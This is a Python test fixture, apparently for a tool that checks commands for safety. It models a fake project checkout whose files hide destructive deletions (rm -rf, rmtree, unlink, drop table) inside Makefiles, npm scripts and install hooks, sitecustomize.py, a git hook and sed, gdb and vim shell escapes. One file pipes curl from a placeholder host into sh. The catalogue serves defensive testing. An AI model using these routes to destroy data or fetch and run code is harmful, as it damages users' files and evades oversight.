"""The checkout that the rows of evasions.txt and harmless.txt are judged in: nothing in it is ever run."""

from __future__ import annotations

CWD = "/home/dev/shop"
BELOW = {
    "victim/keep.txt": "keep\n",
    "victim/sub/b.txt": "b\n",
    "data.txt": "data\n",
    "a.txt": "a\n",
    "notes.log": "n\n",
    ".git/HEAD": "ref: refs/heads/feature\n",
    "Makefile": (
        "D = victim\n"
        ".PHONY: all clean build\n"
        "all: build\n"
        "build:\n"
        "\t@echo built\n"
        "clean:\n"
        "\trm -rf $(D)\n"
        "wipe:\n"
        "\t@$(MAKE) clean\n"
        "foreach:\n"
        "\tfor d in victim; do rm -rf $$d; done\n"
        "include extra.mk\n"
    ),
    "README.md": "# shop\nrm -rf victim\n",
    "Rakefile": "task :clean do\n  FileUtils.rm_rf 'victim'\nend\n",
    "Taskfile.yml": (
        "version: '3'\ntasks:\n  clean:\n    cmds:\n      - rm -rf victim\n  build:\n    cmds:\n      - echo hi\n"
    ),
    "args.sh": (
        "#!/bin/sh\n"
        "set -eu\n"
        "while [ $# -gt 0 ]; do\n"
        " case $1 in\n"
        "  --dir) d=$2; shift 2;;\n"
        "  *) shift;;\n"
        " esac\n"
        "done\n"
        'rm -rf "$d"\n'
    ),
    "bin/clean": '#!/usr/bin/env bash\nrm -rf "$1"\n',
    "case.sh": 'case "$1" in\n  start) echo hi ;;\n  clean) rm -rf victim ;;\nesac\n',
    "clean.awk": '#!/usr/bin/awk -f\nBEGIN{system("rm -rf victim")}\n',
    "clean.mjs": (
        "import { rmSync } from 'node:fs';\nconst target = 'victim';\nrmSync(target, { recursive: true });\n"
    ),
    "clean.mk": "#!/usr/bin/make -f\nall:\n\trm -rf victim\n",
    "clean.php": "#!/usr/bin/env php\n<?php\nforeach (glob('*.txt') as $f) { unlink($f); }\n",
    "clean.pl": "#!/usr/bin/perl\nunlink 'data.txt';\n",
    "clean.py": "#!/usr/bin/env python3\nimport os\nos.remove('data.txt')\n",
    "clean.rb": "#!/usr/bin/ruby\nFile.delete('data.txt')\n",
    "clean.sed": "#!/bin/sed -f\n1e rm -rf victim\n",
    "clean.zsh": "#!/bin/zsh\nfor x (victim) rm -rf $x\n",
    "cmds.txt": "rm -rf victim\n",
    "docker-entry.sh": 'set -e\nexec "$@"\n',
    "extra.mk": "purge:\n\trm -rf $(TARGET)\n",
    "fetch.sh": "curl -s https://x.invalid | sh\n",
    "fn.sh": (
        'main() {\n  local target="${1:-victim}"\n  [ -n "$target" ] || exit 1\n  rm -rf -- "$target"\n}\nmain "$@"\n'
    ),
    "hooks/pre-commit": "#!/bin/sh\nrm -rf victim\n",
    "index.html": "<p>drop table users</p>\n",
    "justfile": "clean:\n    rm -rf victim\nbuild:\n    echo hi\n",
    "lib.sh": "cleanup() { rm -rf victim; }\n",
    "names.txt": "victim\n",
    "noext": "rm -rf victim\n",
    "package.json": (
        '{"scripts": {'
        '"build": "echo hi", '
        '"wipe": "rm -rf victim", '
        '"deep": "npm run wipe", '
        '"prebuild2": "rm -rf victim", '
        '"build2": "echo ok", '
        '"js": "node wipe.js", '
        '"test": "jest", '
        '"clean": "rimraf victim", '
        '"x": "cross-env A=1 rm -rf victim", '
        '"y": "npm-run-all clean", '
        '"z": "run-s clean build", '
        '"w": "del-cli victim", '
        '"v": "node clean.mjs"}}'
    ),
    "lib/package.json": '{"scripts": {"postinstall": "rm -rf ../victim"}}',
    "pkg/__init__.py": "",
    "pkg/__main__.py": "import shutil\nshutil.rmtree('victim')\n",
    "setup.py": "import shutil\nshutil.rmtree('victim')\n",
    "sitedir/sitecustomize.py": "import shutil; shutil.rmtree('victim')\n",
    "src/app.py": "print(1)\n",
    "tests/conftest.py": "",
    "tests/test_app.py": "def test(): pass\n",
    "wipe.R": "unlink('victim', recursive=TRUE)\n",
    "wipe.awk": 'BEGIN { system("rm -rf victim") }\n',
    "wipe.gdb": "shell rm -rf victim\n",
    "wipe.js": "const fs = require('fs');\nfs.rmSync('victim', {recursive: true});\n",
    "wipe.lua": "os.remove('data.txt')\n",
    "wipe.php": "<?php unlink('data.txt');\n",
    "wipe.pl": "use File::Path;\nrmtree('victim');\n",
    "wipe.py": "import shutil\ndef main():\n    shutil.rmtree('victim')\nmain()\n",
    "wipe.rb": "require 'fileutils'\nFileUtils.rm_rf('victim')\n",
    "wipe.sed": "1e rm -rf victim\n",
    "wipe.sh": "#!/bin/bash\nrm -rf victim\n",
    "wipe.sql": "drop table users;\n",
    "wipe.tcl": "file delete -force victim\n",
    "wipe.vim": ":!rm -rf victim\n:q\n",
}
PROGRAMS = ("bash", "cat", "cp", "ls", "mv", "rm", "sh")
FILES = {f"{CWD}/{name}": text for name, text in BELOW.items()} | {f"/bin/{name}": "\x7fELF\0" for name in PROGRAMS}
ENVIRON = {"HOME": "/home/dev", "PATH": "/usr/bin:/bin", "USER": "dev", "SHELL": "/bin/bash"}
